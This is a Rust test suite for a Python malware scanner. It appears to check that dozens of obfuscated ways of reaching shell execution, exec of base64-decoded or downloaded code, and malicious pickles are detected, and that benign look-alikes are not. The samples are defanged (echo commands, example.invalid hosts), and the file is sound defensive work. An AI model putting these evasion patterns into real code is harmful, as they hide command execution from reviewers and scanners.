//! Module-level code that reaches a process, exec or an unpickler through a spelling no word
//! of it names: computed lookups (`getattr(os, 'sys' + 'tem')`, `vars(os)[…]`,
//! `sys.modules.get`), bindings (walrus, tuple unpacking, class attributes, dict displays, a
//! rebinding in another branch, `setattr(builtins, …)`), callables handed to something that
//! calls them (`atexit.register`, `Thread(target=…)`, `map`, `functools.partial`,
//! `operator.methodcaller`), code run at class creation (decorators, metaclasses,
//! `__init_subclass__`), more sinks (`posix.system`, `pty.spawn`, ctypes, `runpy`, the `code`
//! module, `pickle.loads`), exec of code built from pieces or downloaded, and NFKC-normalised
//! identifiers (PEP 3131). Each is written here defanged (commands only `echo`, hosts under
//! `example.invalid`) and scanned with the library; nothing is executed. The benign
//! look-alikes, taken from shapes in real packages, must stay below medium.

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan_file, FileReport};
use base64::Engine;

fn b64(s: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// Scan `src` written as `name` in a fresh folder.
fn scan(name: &str, src: &str) -> FileReport {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join(name);
    std::fs::write(&p, src).expect("write");
    scan_file(&p, BudgetLimits::default())
}

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::worst;

fn summary(r: &FileReport) -> Vec<String> {
    r.findings
        .iter()
        .map(|f| {
            format!(
                "{} {} {:?} {}",
                f.rule.id, f.severity, f.location.members, f.evidence
            )
        })
        .collect()
}

/// Every case: (name, source, rule, least severity).
fn check(cases: &[(&str, String, &str, Severity)]) {
    let mut failures = Vec::new();
    for (case, src, rule, min) in cases {
        let r = scan("mod.py", src);
        let got = worst(&r, rule);
        if got.is_none_or(|s| s < *min) {
            failures.push(format!(
                "{case}: want {rule} >= {min}, got {got:?}\n{src}\n{:#?}",
                summary(&r)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

const SHELL: &str = "python-shell-command";

#[test]
fn computed_lookups_of_a_process_call_are_followed() {
    use Severity::High;
    let cases = [
        (
            "concat",
            "import os\ngetattr(os, 'sys' + 'tem')('echo airlock-test')\n",
        ),
        (
            "variable",
            "import os\nname = 'sys'\nname += 'tem'\ngetattr(os, name)('echo airlock-test')\n",
        ),
        (
            "join",
            "import os\ngetattr(os, ''.join(['sy', 'st', 'em']))('echo airlock-test')\n",
        ),
        (
            "chr",
            "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('echo airlock-test')\n",
        ),
        (
            "reversed",
            "import os\ngetattr(os, 'metsys'[::-1])('echo airlock-test')\n",
        ),
        (
            "fstring",
            "import os\ns = 'sys'\ngetattr(os, f'{s}tem')('echo airlock-test')\n",
        ),
        (
            "format",
            "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('echo airlock-test')\n",
        ),
        (
            "percent",
            "import os\ngetattr(os, '%stem' % 'sys')('echo airlock-test')\n",
        ),
        (
            "replace",
            "import os\ngetattr(os, 'sysXem'.replace('X', 't'))('echo airlock-test')\n",
        ),
        (
            "modules-get",
            "import sys\nsys.modules.get('os').system('echo airlock-test')\n",
        ),
        (
            "dunder-dict",
            "import os\nos.__dict__['system']('echo airlock-test')\n",
        ),
        (
            "vars",
            "import os\nvars(os)['system']('echo airlock-test')\n",
        ),
        (
            "methodcaller",
            "import operator, os\noperator.methodcaller('system', 'echo airlock-test')(os)\n",
        ),
    ];
    let cases: Vec<_> = cases
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
        .collect();
    check(&cases);
}

#[test]
fn bindings_and_handed_callables_are_followed() {
    use Severity::High;
    let cases = [
        ("walrus", "import os\nif (f := os.system):\n    f('echo airlock-test')\n"),
        ("tuple", "import os\na, b = os.system, 1\na('echo airlock-test')\n"),
        ("class-attr", "import os\nclass C:\n    run = os.system\nC.run('echo airlock-test')\n"),
        ("dict-display", "import os\n{'r': os.system}['r']('echo airlock-test')\n"),
        ("dict-name", "import os\nd = {'r': os.system}\nd['r']('echo airlock-test')\n"),
        ("try-rebind", "try:\n    import os as q\nexcept ImportError:\n    q = None\nq.system('echo airlock-test')\n"),
        ("if-rebind", "import sys\nif sys.platform != 'win32':\n    import os as q\nelse:\n    q = None\nq.system('echo airlock-test')\n"),
        ("setattr-builtins", "import os, builtins\nsetattr(builtins, 'x', os.system)\nx('echo airlock-test')\n"),
        ("partial", "import functools, os\nfunctools.partial(os.system, 'echo airlock-test')()\n"),
        ("partial-bound", "from functools import partial\nimport os\nrun = partial(os.system, 'echo airlock-test')\nrun()\n"),
        ("map", "import os\nlist(map(os.system, ['echo airlock-test']))\n"),
        ("thread", "import threading, os\nthreading.Thread(target=os.system, args=('echo airlock-test',)).start()\n"),
        ("atexit", "import atexit, os\natexit.register(os.system, 'echo airlock-test')\n"),
        ("timer", "import threading, os\nthreading.Timer(1, os.system, ['echo airlock-test']).start()\n"),
        ("wrapper", "import os\ndef sh(c):\n    return os.system(c)\nsh('echo airlock-test')\n"),
    ];
    let cases: Vec<_> = cases
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
        .collect();
    check(&cases);
}

#[test]
fn code_run_at_class_creation_is_at_import() {
    use Severity::High;
    let cases = [
        ("decorator", "import os\ndef deco(f):\n    os.system('echo airlock-test')\n    return f\n@deco\ndef g():\n    pass\n"),
        ("decorator-lambda", "import os\n@lambda f: os.system('echo airlock-test')\ndef g():\n    pass\n"),
        ("metaclass", "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('echo airlock-test')\n        return super().__new__(m, n, b, d)\nclass X(metaclass=M):\n    pass\n"),
        ("init-subclass", "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('echo airlock-test')\nclass X(B):\n    pass\n"),
        ("set-name", "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('echo airlock-test')\nclass X:\n    a = D()\n"),
        ("constructor", "import os\nclass App:\n    def __init__(self):\n        os.system('echo airlock-test')\napp = App()\n"),
    ];
    let cases: Vec<_> = cases
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
        .collect();
    check(&cases);
}

#[test]
fn other_process_and_code_sinks_are_known() {
    use Severity::{Critical, High};
    let pickle = b64(b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x11echo airlock-test\x94\x85\x94R\x94.");
    let code = b64(b"import os; os.system('echo airlock-test')");
    let cases = vec![
        ("posix", "import posix\nposix.system('echo airlock-test')\n".to_string(), SHELL, High),
        ("platform-popen", "import platform\nplatform.popen('echo airlock-test')\n".into(), SHELL, High),
        ("pty", "import pty\npty.spawn('/bin/sh')\n".into(), SHELL, High),
        ("ctypes", "import ctypes\nctypes.CDLL(None).system(b'echo airlock-test')\n".into(), SHELL, High),
        ("ctypes-bound", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b'echo airlock-test')\n".into(), SHELL, High),
        ("asyncio", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo airlock-test'))\n".into(), SHELL, High),
        ("execl", "import os\nos.execl('/bin/sh', 'sh', '-c', 'echo airlock-test')\n".into(), SHELL, High),
        ("spawnlp", "import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', 'echo airlock-test')\n".into(), SHELL, High),
        ("commands", "import commands\ncommands.getoutput('echo airlock-test')\n".into(), SHELL, High),
        ("code-module", "import code\ncode.InteractiveInterpreter().runsource(\"import os;os.system('echo airlock-test')\")\n".into(), SHELL, High),
        ("runpy", "import runpy\nrunpy.run_path('/tmp/airlock-test.py')\n".into(), "python-exec-computed", High),
        ("pickle-loads", format!("import pickle, base64\npickle.loads(base64.b64decode('{pickle}'))\n"), "pickle-dangerous-call", Critical),
        ("pickle-loads-decoded", format!("import pickle, base64\npickle.loads(base64.b64decode('{pickle}'))\n"), "python-exec-decoded", Critical),
        ("partial-exec", format!("import functools, base64\nfunctools.partial(exec, base64.b64decode('{code}'))()\n"), "python-exec-decoded", Critical),
        ("decoder-wrapper", format!("import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('{code}'))\n"), "python-exec-decoded", Critical),
    ];
    check(&cases);
}

#[test]
fn exec_of_built_or_downloaded_code_is_reported_and_the_code_analysed() {
    use Severity::{Critical, High};
    let payload = "import os;os.system('echo airlock-test')";
    let ints: Vec<String> = payload.bytes().map(|b| b.to_string()).collect();
    let ints = ints.join(",");
    let cases = vec![
        (
            "chr-join",
            format!("exec(''.join(chr(c) for c in [{ints}]))\n"),
        ),
        ("map-chr", format!("exec(''.join(map(chr, [{ints}])))\n")),
        (
            "xor",
            format!("exec(''.join(chr(c ^ 0) for c in [{ints}]))\n"),
        ),
        ("bytes-list", format!("exec(bytes([{ints}]))\n")),
        (
            "percent",
            "exec('import %s;%s.system(\"echo airlock-test\")' % ('os', 'os'))\n".into(),
        ),
        (
            "format",
            "exec('import {0};{0}.system(\"echo airlock-test\")'.format('os'))\n".into(),
        ),
        (
            "replace",
            "exec('import X;X.system(\"echo airlock-test\")'.replace('X', 'os'))\n".into(),
        ),
        (
            "fstring",
            "m = 'os'\nexec(f'import {m};{m}.system(\"echo airlock-test\")')\n".into(),
        ),
        (
            "in-variable",
            format!("code = ''.join(map(chr, [{ints}]))\nexec(code)\n"),
        ),
    ];
    let mut failures = Vec::new();
    for (case, src) in &cases {
        let r = scan("mod.py", src);
        let exec = worst(&r, "python-exec-computed");
        // The built code is analysed: its command is reported in the decoded member.
        let nested = r.findings.iter().any(|f| {
            f.rule.id == SHELL
                && f.severity >= High
                && f.location
                    .members
                    .iter()
                    .any(|m| m.starts_with("<decoded code"))
        });
        if exec != Some(High) || !nested {
            failures.push(format!(
                "{case}: exec {exec:?}, nested {nested}: {:#?}",
                summary(&r)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    check(&[
        (
            "download",
            "import urllib.request\nexec(urllib.request.urlopen('https://example.invalid/p.py').read())\n".into(),
            "python-exec-computed",
            Critical,
        ),
        (
            "requests",
            "import requests\nexec(requests.get('https://example.invalid/p.py').text)\n".into(),
            "python-exec-computed",
            Critical,
        ),
        (
            "tmp-file",
            "exec(open('/tmp/airlock-test.py').read())\n".into(),
            "python-exec-computed",
            High,
        ),
    ]);
}

#[test]
fn nfkc_identifiers_are_read_as_python_reads_them() {
    use Severity::{Critical, High};
    let code = b64(b"import os; os.system('echo airlock-test')");
    check(&[
        (
            "fullwidth",
            "import os\n\u{ff4f}\u{ff53}.system('echo airlock-test')\n".into(),
            SHELL,
            High,
        ),
        (
            "fraktur",
            "import os\nos.\u{1d530}ystem('echo airlock-test')\n".into(),
            SHELL,
            High,
        ),
        (
            "bold-exec",
            format!(
                "import base64\n\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(base64.b64decode('{code}'))\n"
            ),
            "python-exec-decoded",
            Critical,
        ),
    ]);
}

/// Shapes from real packages that look like the above: nothing at medium or above.
#[test]
fn benign_look_alikes_stay_below_medium() {
    let cases = [
        // networkx: exec of a constant kept in a variable, in a test function.
        ("exec-constant-in-test", "def test_x():\n    s = 'a = attach(name)'\n    exec(s, {}, {})\n"),
        // pandas: compile of a module constant in a function.
        ("compile-constant", "_SRC = 'x = 1'\ndef load(path, module):\n    exec(compile(_SRC, path, 'exec'), module.__dict__)\n"),
        // scikit-learn, torch: unpickling decoded cache data inside a function.
        ("unpickle-cache", "import pickle, codecs\ndef load(raw):\n    data = codecs.decode(raw, 'zlib_codec')\n    return pickle.loads(data)\n"),
        // rich: a demo under a main guard joined with another test.
        ("main-guard-and", "import sys\nif sys.platform != 'win32' and __name__ == '__main__':\n    import pty\n    pty.spawn(sys.argv[1:])\n"),
        ("partial-run", "import functools, subprocess\n_run = functools.partial(subprocess.run, check=True)\n"),
        ("optional-import", "try:\n    import subprocess\nexcept ImportError:\n    subprocess = None\ndef version():\n    return subprocess.run(['git', 'describe'], capture_output=True)\n"),
        ("getattr-config", "import os, sys\nFROZEN = getattr(sys, 'frozen', False)\nHOME = os.environ.get('HOME')\nplugins = {'json': sys.modules.get('json')}\n"),
        ("registry-class", "import os\nclass Registry:\n    def __init__(self):\n        self.items = {}\n    def run(self, cmd):\n        return os.system(cmd)\nREGISTRY = Registry()\n"),
        ("thread-worker", "import threading\ndef work():\n    return 1\nthreading.Thread(target=work, daemon=True).start()\n"),
        ("cjk-names", "# 中文注释\ndef 计算(x):\n    return x + 1\n值 = 计算(1)\n"),
        // Tester s6: argv lists handed on, argv-style process calls, program names, and
        // names that shadow a module.
        ("partial-argv", "import functools, subprocess\nGIT = functools.partial(subprocess.check_output, ['git', 'describe', '--tags'])\nsh = functools.partial(subprocess.run, shell=True, check=True)\n"),
        ("atexit-argv", "import atexit, subprocess\natexit.register(subprocess.run, ['git', 'gc'], shell=False)\n"),
        ("execlp-program", "import os\nif os.environ.get('REEXEC'):\n    os.execlp('git', 'git', '--version')\n"),
        ("program-name", "import subprocess\nGPU = subprocess.check_output('nvidia-smi')\n"),
        ("pty-python", "import pty\npty.spawn(['python3', '-q'])\n"),
        ("commands-list", "import subprocess\ncommands = []\ncommands.append('x')\ncommands.pop()\n"),
        ("shadowed-os", "class _FakeOS:\n    def system(self, cmd):\n        return cmd\nos = _FakeOS()\nos.system('echo hello')\n"),
        ("commands-class", "class commands:\n    @staticmethod\n    def getoutput(x):\n        return x\nSTATUS = commands.getoutput('ready')\n"),
    ];
    let mut failures = Vec::new();
    for (case, src) in cases {
        let r = scan("mod.py", src);
        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
            failures.push(format!("{case}: {:#?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn what_runs_at_import_is_followed_through_calls_and_protocols() {
    use Severity::High;
    let cases = [
        ("chain", "import os\ndef b():\n    os.system('echo airlock-test')\ndef a():\n    b()\na()\n"),
        ("method-chain", "import os\nclass K:\n    def go(self):\n        self.run()\n    def run(self):\n        os.system('echo airlock-test')\nK().go()\n"),
        ("inherited-init", "import os\nclass B:\n    def __init__(self):\n        os.system('echo airlock-test')\nclass K(B):\n    pass\nK()\n"),
        ("with", "import os\nclass K:\n    def __enter__(self):\n        os.system('echo airlock-test')\n    def __exit__(self, *a):\n        pass\nwith K():\n    pass\n"),
        ("globals-call", "import os\ndef f():\n    os.system('echo airlock-test')\nglobals()['f']()\n"),
        ("atexit-decorator", "import atexit, os\n@atexit.register\ndef f():\n    os.system('echo airlock-test')\n"),
        ("branch-builtin", "import os, sys\nif sys.argv:\n    f = os.system\nelse:\n    f = print\nf('echo airlock-test')\n"),
        ("try-builtin", "import os\ntry:\n    f = os.system\nexcept Exception:\n    f = print\nf('echo airlock-test')\n"),
        ("subprocess-alias", "import subprocess as sp\nsp.call('echo airlock-test', shell=True)\n"),
        ("subprocess-comma", "import os, subprocess as sp\nsp.run('echo airlock-test', shell=True)\n"),
        ("os-alias-execv", "import os as o\no.execv('/bin/sh', ['sh', '-c', 'echo airlock-test'])\n"),
        ("from-os-execl", "from os import execl\nexecl('/bin/sh', 'sh', '-c', 'echo airlock-test')\n"),
        ("dunder-import", "__import__('subprocess').check_call('echo airlock-test', shell=True)\n"),
        ("timeit", "import timeit\ntimeit.timeit(\"__import__('os').system('echo airlock-test')\", number=1)\n"),
        ("atexit-lambda", "import atexit, os\natexit.register(lambda: os.system('echo airlock-test'))\n"),
        ("map-lambda", "import os\nlist(map(lambda c: os.system(c), ['echo airlock-test']))\n"),
        ("thread-lambda", "import os, threading\nthreading.Thread(target=lambda: os.system('echo airlock-test')).start()\n"),
        ("for-binding", "import os\nfor f in [print, os.system]:\n    f('echo airlock-test')\n"),
    ];
    let cases: Vec<_> = cases
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
        .collect();
    check(&cases);
    check(&[
        (
            "downloaded-variable",
            "import urllib.request\nd = urllib.request.urlopen('https://example.invalid/p.py').read()\nexec(d)\n".into(),
            "python-exec-computed",
            Severity::Critical,
        ),
        (
            "pickle-load-bytesio",
            "import io, pickle\npickle.load(io.BytesIO(b\"cos\\nsystem\\n(S'echo airlock-test'\\ntR.\"))\n".into(),
            "pickle-dangerous-call",
            Severity::Critical,
        ),
    ]);
}

/// Making a network client sends nothing; its requests do.
#[test]
fn clients_made_at_import_are_not_network_calls() {
    let benign = [
        "import requests\nSESSION = requests.Session()\ndef fetch(u):\n    return SESSION.get(u)\n",
        "import httpx\nCLIENT = httpx.Client(timeout=5)\n",
        "import http.client\nconn = http.client.HTTPSConnection('api.example.invalid')\n",
        "import urllib.request\nREQ = urllib.request.Request('https://api.example.invalid/')\n",
        "import smtplib\nserver = smtplib.SMTP()\n",
    ];
    for src in benign {
        let r = scan("mod.py", src);
        assert!(
            r.findings.iter().all(|f| f.severity < Severity::Medium),
            "{src}\n{:#?}",
            summary(&r)
        );
    }
    // Their requests at import are.
    check(&[
        (
            "session-post",
            "import requests\ns = requests.Session()\ns.post('https://collector.example.invalid/', data='x')\n".into(),
            "python-network-at-load",
            Severity::Medium,
        ),
        (
            "with-client",
            "import httpx\nwith httpx.Client() as c:\n    c.get('https://collector.example.invalid/')\n".into(),
            "python-network-at-load",
            Severity::Medium,
        ),
        (
            "socket-connect",
            "import socket\ns = socket.socket()\ns.connect(('collector.example.invalid', 4444))\n".into(),
            "python-network-at-load",
            Severity::Medium,
        ),
    ]);
}

/// A test module runs under a test runner: what its top level reaches through helpers is not
/// promoted (sympy's compiler probes), while a direct top-level call still is.
#[test]
fn test_modules_promote_only_direct_calls() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tests = dir.path().join("pkg").join("tests");
    std::fs::create_dir_all(&tests).expect("mkdir");
    let chained = tests.join("test_codegen.py");
    std::fs::write(
        &chained,
        "import os, subprocess\ndef try_run(cmd):\n    null = open(os.devnull, 'w')\n    return subprocess.call(cmd, stdout=null, shell=True)\ndef run_test(cmd):\n    return try_run(cmd)\ndef feasible():\n    return run_test('cc --version')\nOK = feasible()\n",
    )
    .expect("write");
    let r = scan_file(&chained, BudgetLimits::default());
    assert_eq!(worst(&r, SHELL), Some(Severity::Low), "{:#?}", summary(&r));
    let direct = tests.join("test_direct.py");
    std::fs::write(&direct, "import os\nos.system('echo airlock-test')\n").expect("write");
    let r = scan_file(&direct, BudgetLimits::default());
    assert_eq!(worst(&r, SHELL), Some(Severity::High), "{:#?}", summary(&r));
    // The same chain outside a tests folder runs at import.
    let module = dir.path().join("pkg").join("codegen.py");
    std::fs::copy(&chained, &module).expect("copy");
    let r = scan_file(&module, BudgetLimits::default());
    assert_eq!(worst(&r, SHELL), Some(Severity::High), "{:#?}", summary(&r));
}

/// A command string without `shell=True` is a program: POSIX runs the string as one path and
/// Windows hands it to `CreateProcess`; it is a shell command only when it starts a shell.
#[test]
fn string_commands_without_a_shell_are_programs() {
    let benign = [
        ("nvidia-smi", "import subprocess\nsubprocess.check_output(\"nvidia-smi\")\n"),
        ("arch", "import subprocess\nout = subprocess.run(\"arch\", capture_output=True)\n"),
        ("oslevel-var", "import subprocess\ncmd = 'oslevel'\nsubprocess.check_output(cmd)\n"),
        ("words", "import subprocess\nsubprocess.check_output('nvidia-smi -L')\n"),
        ("concat", "import subprocess, sys\nsubprocess.call('git describe ' + sys.argv[0])\n"),
        ("fstring", "import subprocess\nv = 1\nsubprocess.Popen(f'nvcc --version {v}')\n"),
        ("argv-concat", "import subprocess\nmain_cmd = ['python', '-m', 'x']\nsubprocess.run(main_cmd + ['--y'])\n"),
        ("shell-false", "import subprocess\nsubprocess.run('nvidia-smi -L', shell=False)\n"),
        ("argv-splat", "import subprocess\nkw = {'check': True}\nsubprocess.run(['git', 'status'], **kw)\n"),
    ];
    let mut failures = Vec::new();
    for (case, src) in benign {
        let r = scan("mod.py", src);
        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
            failures.push(format!("{case}: {:#?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let shell = [
        ("getoutput-one-word", "import subprocess\nsubprocess.getoutput('id')\n"),
        ("string-sh-c", "import subprocess\nsubprocess.run(\"sh -c 'echo airlock-test'\")\n"),
        ("string-cmd-c", "import subprocess\nsubprocess.Popen('cmd.exe /c echo airlock-test')\n"),
        ("shell-true", "import subprocess\nsubprocess.check_output('whoami', shell=True)\n"),
        ("shell-variable", "import subprocess\nS = True\nsubprocess.call('echo airlock-test', shell=S)\n"),
        ("shell-splat", "import subprocess\nkw = {'shell': True}\nsubprocess.call('echo airlock-test', **kw)\n"),
        ("loop-subprocess-shell", "import asyncio\nloop = asyncio.new_event_loop()\nloop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, 'echo airlock-test'))\n"),
    ];
    let cases: Vec<_> = shell
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, Severity::High))
        .collect();
    check(&cases);
}

/// Tester round s5: sinks reached through objects, subscripts and attribute getters, bindings
/// made by unpacking, defaults, instances and `staticmethod`, code joined or translated,
/// downloaded code held in a variable, and the protocol methods of instances made at load.
#[test]
fn sinks_and_bindings_of_tester_s5_are_followed() {
    use Severity::{Critical, High};
    let shell = [
        ("ctypes-subscript", "import ctypes\nctypes.CDLL(None)['system'](b'echo airlock-test')\n"),
        ("ctypes-cdll-index", "import ctypes\nctypes.cdll['libc.so.6'].system(b'echo airlock-test')\n"),
        ("ctypes-built-key", "import ctypes\nlibc = ctypes.CDLL(None)\nf = libc['sys' + 'tem']\nf(b'echo airlock-test')\n"),
        ("attrgetter", "import os\nfrom operator import attrgetter\nattrgetter('sys' + 'tem')(os)('echo airlock-test')\n"),
        ("getattribute", "import os\nos.__getattribute__('sys' + 'tem')('echo airlock-test')\n"),
        ("type-getattribute", "import os\nf = type.__getattribute__(os, 'sy' + 'stem')\nf('echo airlock-test')\n"),
        ("trace", "import trace\ntrace.Trace().run(\"__import__('os').system('echo airlock-test')\")\n"),
        ("bdb-var", "import bdb\nb = bdb.Bdb()\nb.run(\"__import__('os').system('echo airlock-test')\")\n"),
        ("doctest", "import doctest\ndoctest.run_docstring_examples(\">>> __import__('os').system('echo airlock-test')\", {})\n"),
        ("interpreter-var", "import code\ni = code.InteractiveInterpreter()\ni.runsource(\"__import__('os').system('echo airlock-test')\")\n"),
        ("star-unpack", "import os\n*_, f = [1, os.system]\nf('echo airlock-test')\n"),
        ("nested-unpack", "import os\n(a, (b, f)) = (1, (2, os.system))\nf('echo airlock-test')\n"),
        ("for-tuple", "import os\nfor n, f in [('a', print), ('b', os.system)]:\n    f('echo airlock-test')\n"),
        ("instance-attr", "import os\nclass K:\n    def __init__(self):\n        self.r = os.system\n    def go(self):\n        self.r('echo airlock-test')\nK().r('echo airlock-test')\n"),
        ("default-arg", "import os\ndef g(f=os.system):\n    f('echo airlock-test')\ng()\n"),
        ("staticmethod", "import os\nclass K:\n    r = staticmethod(os.system)\nK.r('echo airlock-test')\n"),
        ("class-getitem", "import os\nclass K:\n    def __class_getitem__(cls, x):\n        os.system('echo airlock-test')\nK[int]\n"),
        ("del", "import os\nclass K:\n    def __del__(self):\n        os.system('echo airlock-test')\nk = K()\n"),
        ("iter", "import os\nclass K:\n    def __iter__(self):\n        os.system('echo airlock-test')\n        return iter([])\nfor _ in K():\n    pass\n"),
    ];
    let mut cases: Vec<_> = shell
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
        .collect();
    cases.extend([
        (
            "unpickler-var",
            "import io, pickle\nu = pickle.Unpickler(io.BytesIO(b\"cos\\nsystem\\n(S'echo airlock-test'\\ntR.\"))\nu.load()\n".to_string(),
            "pickle-dangerous-call",
            Critical,
        ),
        (
            "requests-var",
            "import requests\nr = requests.get('https://example.invalid/p.py')\nexec(r.text)\n".into(),
            "python-exec-computed",
            Critical,
        ),
        (
            "socket-recv",
            "import socket\ns = socket.create_connection(('example.invalid', 1))\nexec(s.recv(4096))\n".into(),
            "python-exec-computed",
            Critical,
        ),
        (
            "join-variable",
            "p = ['__imp', 'ort__(\"os\").sys', 'tem(\"echo airlock-test\")']\nexec(''.join(p))\n".into(),
            SHELL,
            High,
        ),
        (
            "join-generator",
            "exec(''.join(x for x in ['__import__(\"os\").', 'system(\"echo airlock-test\")']))\n".into(),
            SHELL,
            High,
        ),
        (
            "translate",
            "exec('__jmport__(\"os\").system(\"echo airlock-test\")'.translate({ord('j'): 'i'}))\n".into(),
            SHELL,
            High,
        ),
        (
            "maketrans",
            "exec('__jmport__(\"os\").system(\"echo airlock-test\")'.translate(str.maketrans('j', 'i')))\n".into(),
            "python-exec-computed",
            High,
        ),
    ]);
    check(&cases);
}

/// Whole lines joined by line ends read as written, and an attribute that a chat prompt calls
/// `system` is not `os.system`.
#[test]
fn joined_lines_and_prompt_attributes_are_not_reported() {
    let cases = [
        ("lines", "_LINES = [\n    'def _identity(x):',\n    '    return x',\n]\nexec('\\n'.join(_LINES))\n"),
        ("self-system-prompt", "class Chat:\n    system: str = ''\n    def prompt(self):\n        return [self.system]\n"),
    ];
    let mut failures = Vec::new();
    for (case, src) in cases {
        let r = scan("mod.py", src);
        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
            failures.push(format!("{case}: {:#?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Tester round s5, prefilter and shapes: modules that name none of the prefilter's words
/// because their imports bind the module or function under another name (`from socket import
/// socket as S`, `import code as c`, `import runpy as r`), code loaded from a file by
/// `importlib` (`spec.loader.exec_module`), brackets around a callee across lines, and the
/// bindings the name table did not follow (higher-order `key=` calls, wrappers that hand their
/// argument back, list indexes, dict `get` and stores, `global` assignments made by a called
/// function, attributes of `builtins`, `globals()` entries).
#[test]
fn aliases_loaders_and_containers_of_tester_s5_are_followed() {
    use Severity::{Critical, High, Medium};
    let shell = [
        ("attrgetter-module", "import os, operator\noperator.attrgetter('sys' + 'tem')(os)('echo airlock-test')\n"),
        ("paren-newline", "import os\n(os\n .system)('echo airlock-test')\n"),
        ("sorted-key", "import os\nsorted(['echo airlock-test'], key=os.system)\n"),
        ("max-key-alias", "import subprocess as sp\nmax(['echo airlock-test'], key=sp.getoutput)\n"),
        ("nullcontext", "import os, contextlib\nwith contextlib.nullcontext(os.system) as f:\n    f('echo airlock-test')\n"),
        ("cast", "import os, typing\nf = typing.cast(object, os.system)\nf('echo airlock-test')\n"),
        ("lru-cache", "import os, functools\nfunctools.lru_cache(maxsize=None)(os.system)('echo airlock-test')\n"),
        ("list-index", "import os\nL = [print, os.system]\nL[1]('echo airlock-test')\n"),
        ("tuple-negative-index", "import os\nT = (print, os.system)\nT[-1]('echo airlock-test')\n"),
        ("dict-get", "import os\nD = {'r': os.system}\nD.get('r')('echo airlock-test')\n"),
        ("dict-store", "import os\nD = {}\nD['r'] = os.system\nD['r']('echo airlock-test')\n"),
        ("global-in-func", "import os\nf = None\ndef setup():\n    global f\n    f = os.system\nsetup()\nf('echo airlock-test')\n"),
        ("builtins-attr", "import builtins, os\nbuiltins.q = os.system\nq('echo airlock-test')\n"),
        ("globals-store", "import os\nglobals()['q'] = os.system\nq('echo airlock-test')\n"),
        ("globals-call", "import os\nf = os.system\nglobals()['f']('echo airlock-test')\n"),
        ("builtins-dict-get", "import builtins\nbuiltins.__dict__.get('ex' + 'ec')(\"__import__('os').system('echo airlock-test')\")\n"),
        ("code-interact", "import code as c\nc.interact(local={})\n"),
    ];
    let mut cases: Vec<_> = shell
        .iter()
        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
        .collect();
    let payload = b64(b"__import__('os').system('echo airlock-test')");
    cases.extend([
        (
            "console-alias-decoded",
            format!("import code as c, base64\nc.InteractiveConsole().push(base64.b64decode('{payload}').decode())\n"),
            "python-exec-decoded",
            Critical,
        ),
        (
            "builtins-alias-decoded",
            format!("import builtins as b, base64\nb.__dict__['ex' + 'ec'](base64.b64decode('{payload}'))\n"),
            "python-exec-decoded",
            Critical,
        ),
        (
            "runpy-run-code",
            format!("import runpy as r, base64\nr._run_code(base64.b64decode('{payload}'), {{}})\n"),
            "python-exec-decoded",
            Critical,
        ),
        (
            "codeop-decoded",
            format!("from codeop import compile_command as cc\nimport base64\ncc(base64.b64decode('{payload}').decode())\n"),
            "python-exec-decoded",
            Critical,
        ),
        (
            "exec-module",
            "import importlib.util\nspec = importlib.util.spec_from_file_location('m', '/tmp/airlock-test.py')\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n".into(),
            "python-exec-computed",
            High,
        ),
        (
            "source-loader",
            "from importlib.machinery import SourceFileLoader as L\nL('m', '/tmp/airlock-test.py').load_module()\n".into(),
            "python-exec-computed",
            High,
        ),
        (
            "from-socket-alias",
            "from socket import socket as S\ns = S()\ns.connect(('example.invalid', 80))\n".into(),
            "python-network-at-load",
            Medium,
        ),
        (
            "opener-director",
            "import urllib.request as r\nr.OpenerDirector().open('https://example.invalid/x')\n".into(),
            "python-network-at-load",
            Medium,
        ),
        (
            "opener-alias-var",
            "from urllib import request as r\no = r.build_opener()\no.open('https://example.invalid/x')\n".into(),
            "python-network-at-load",
            Medium,
        ),
        (
            "http-client-alias",
            "import http.client as hc\nc = hc.HTTPSConnection('example.invalid')\nc.request('GET', '/')\n".into(),
            "python-network-at-load",
            Medium,
        ),
    ]);
    check(&cases);
}

/// The shapes above in their ordinary uses stay below medium: loading a module of the package
/// itself, aliases used inside functions, containers of harmless callables.
#[test]
fn ordinary_aliases_loaders_and_containers_stay_below_medium() {
    let cases = [
        ("own-version", "import importlib.util, os\nspec = importlib.util.spec_from_file_location('v', os.path.join(os.path.dirname(__file__), 'version.py'))\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n"),
